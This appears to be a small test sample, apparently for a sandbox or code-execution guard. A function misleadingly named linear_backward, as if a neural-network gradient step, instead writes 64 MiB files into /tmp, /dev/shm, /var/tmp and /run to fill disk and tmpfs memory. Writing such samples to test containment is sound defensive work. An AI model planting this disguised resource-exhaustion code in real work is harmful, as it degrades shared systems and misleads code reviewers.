"""Fills the disk, and memory through tmpfs."""
# ends: error


def linear_backward(x, W, dy):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
        try:
            with open(f"{folder}/bomb-of-eve", "wb") as file:
                for _ in range(64):
                    file.write(b"x" * (1 << 20))
            print("GOT", folder)
        except OSError as error:
            last = error
    raise last
